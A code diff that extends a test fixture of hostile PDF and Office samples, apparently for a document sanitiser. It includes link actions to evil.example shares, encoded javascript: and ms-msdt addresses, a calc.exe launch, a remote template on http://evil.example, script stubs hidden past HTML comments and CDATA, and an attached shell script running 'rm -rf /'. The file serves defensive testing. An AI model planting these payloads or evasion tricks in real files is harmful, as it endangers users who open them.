@@ -1,4 +1,5 @@
-import { deflated, onePage, pdfOf, streamOf } from '../../support/pdf/make';
+import { docxFile, relationships, wordType } from '../../support/docx';
+import { attachedPdf, deflated, onePage, pdfOf, streamOf } from '../../support/pdf/make';
 import { zip } from '../../support/zip';
 import type { Hostile } from './hostile';
 
@@ -40,6 +41,12 @@ const actions: [what: string, action: string][] = [
   ['a script in an address with a line end', '<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>'],
   ['a script in an address in hexadecimal digits', '<< /S /URI /URI <6a6176617363726970743a31> >>'],
   ['a program of Windows', '<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>'],
+  ['a share, percent-encoded', '<< /S /URI /URI (%5c%5cevil.example%5cshare) >>'],
+  ['a share in an address, percent-encoded', '<< /S /URI /URI (file:%2f%2fevil.example%2fshare) >>'],
+  ['a script in an address, percent-encoded', '<< /S /URI /URI (javascript%3aalert\\(1\\)) >>'],
+  ['a program of Windows, percent-encoded twice', '<< /S /URI /URI (ms-msdt%253a/id) >>'],
+  ['a program beside the document', '<< /S /URI /URI (setup.exe) >>'],
+  ['a program of the computer', '<< /S /GoToR /F (/C/Windows/System32/calc.exe) >>'],
   ['data in an address', '<< /S /URI /URI (data:text/html,x) >>'],
 ];
 
@@ -91,15 +98,17 @@ const forms: [what: string, xfa: string, others: Record<number, string | Buffer>
   ['packed in an unknown way', '10 0 R', { 10: streamOf('x', '/Filter /Unknown') }],
 ];
 
-function attached(name: string, data: string | Buffer, entries = ''): Buffer {
-  const names = `/F (${name}) /UF (${name}) ${entries}`;
-  return pdfOf(
-    onePage('/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>', {
-      10: `<< /Type /Filespec ${names} /EF << /F 11 0 R >> >>`,
-      11: deflated(data, '/Type /EmbeddedFile'),
-    }),
+/** Whose template is elsewhere. */
+function remoteSheet(): Buffer {
+  const remote = relationships(['attachedTemplate', 'http://evil.example/x', 'External']);
+  return docxFile(
+    { 'word/embeddings/a.docx': docxFile({ 'word/_rels/settings.xml.rels': remote }) },
+    { docx: wordType },
   );
 }
+
+const svgWithDefault =
+  '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>';
 
 const script1 = pdfOf(onePage('/OpenAction << /S /JavaScript /JS (x) >>'));
 const programs: [what: string, file: Buffer][] = [
@@ -121,24 +130,40 @@ const programs: [what: string, file: Buffer][] = [
     'iso',
     'url',
     'library-ms',
-  ].map((end): [string, Buffer] => [`attached as x.${end}`, attached(`x.${end}`, 'x')]),
-  ['attached as x.exe with a blank behind', attached('x.exe ', 'x')],
-  ['attached under two names', attached('x.txt', 'x', '/DOS (x.exe)')],
-  ['attached as x.txt, a program inside', attached('x.txt', Buffer.from('MZ\x90\0\x03', 'latin1'))],
-  ['attached as x.png, a program inside', attached('x.png', Buffer.from('\x7fELF\x02\x01', 'latin1'))],
-  ['attached without an end, a script inside', attached('run', '#!/bin/sh\nrm -rf /')],
-  ['attached as x.txt, a shortcut inside', attached('x.txt', Buffer.from('L\0\0\0\x01\x14\x02\0\0\0', 'latin1'))],
-  ['attached as x.html with a script', attached('x.html', '<html><script>alert(1)</script></html>')],
+  ].map((end): [string, Buffer] => [`attached as x.${end}`, attachedPdf(`x.${end}`, 'x')]),
+  ['attached as x.exe with a blank behind', attachedPdf('x.exe ', 'x')],
+  ['attached under two names', attachedPdf('x.txt', 'x', '/DOS (x.exe)')],
+  ['attached as x.txt, a program inside', attachedPdf('x.txt', Buffer.from('MZ\x90\0\x03', 'latin1'))],
+  ['attached as x.png, a program inside', attachedPdf('x.png', Buffer.from('\x7fELF\x02\x01', 'latin1'))],
+  ['attached without an end, a script inside', attachedPdf('run', '#!/bin/sh\nrm -rf /')],
+  ['attached as x.txt, a shortcut inside', attachedPdf('x.txt', Buffer.from('L\0\0\0\x01\x14\x02\0\0\0', 'latin1'))],
+  ['attached as x.html with a script', attachedPdf('x.html', '<html><script>alert(1)</script></html>')],
   [
     'attached as x.svg with a handler',
-    attached('x.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+    attachedPdf('x.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
   ],
-  ['attached as x.xml with a style sheet', attached('x.xml', '<?xml-stylesheet href="x.xsl"?><x/>')],
-  ['attached as x.xlsx with macros', attached('x.xlsx', zip([{ name: 'xl/vbaProject.bin', data: 'x' }]))],
-  ['attached as x.docx that is a program', attached('x.docx', Buffer.from('MZ'))],
-  ['in an attached PDF', attached('x.pdf', script1)],
-  ['in a PDF that is attached to an attached one', attached('x.pdf', attached('y.pdf', script1))],
-  ['in the fourth of PDFs in one another', attached('a.pdf', attached('b.pdf', attached('c.pdf', pdfOf(onePage()))))],
+  ['attached as x.xml with a style sheet', attachedPdf('x.xml', '<?xml-stylesheet href="x.xsl"?><x/>')],
+  ['attached as x.xlsx with macros', attachedPdf('x.xlsx', zip([{ name: 'xl/vbaProject.bin', data: 'x' }]))],
+  ['attached as x.docx that is a program', attachedPdf('x.docx', Buffer.from('MZ'))],
+  ['in an attached PDF', attachedPdf('x.pdf', script1)],
+  ['in a PDF that is attached to an attached one', attachedPdf('x.pdf', attachedPdf('y.pdf', script1))],
+  [
+    'in the ninth of PDFs in one another',
+    Array.from({ length: 9 }).reduce<Buffer>((inner) => attachedPdf('a.pdf', inner), pdfOf(onePage())),
+  ],
+  [
+    'in an attached .docx',
+    attachedPdf('x.docx', docxFile({ 'word/a.bin': 'MZ' }, { bin: 'application/octet-stream' })),
+  ],
+  ['in a worksheet of an attached .docx', attachedPdf('x.docx', remoteSheet())],
+  ['in an archive attached as x.zip', attachedPdf('x.zip', zip([{ name: 'a/b.js', data: 'x' }]))],
+  [
+    'attached as x.html, behind the end of a comment of HTML',
+    attachedPdf('x.html', '<p><!--><script>x</script>--></p>'),
+  ],
+  ['attached as x.html, behind a section of XML', attachedPdf('x.html', '<p><![CDATA[><script>x</script>]]></p>')],
+  ['attached as x.svg with a handler by default', attachedPdf('x.svg', svgWithDefault)],
+  ['attached as x.pdf that is broken', attachedPdf('x.pdf', '%PDF-1.7')],
 ];
 
 export const activePdfs: Hostile[] = [
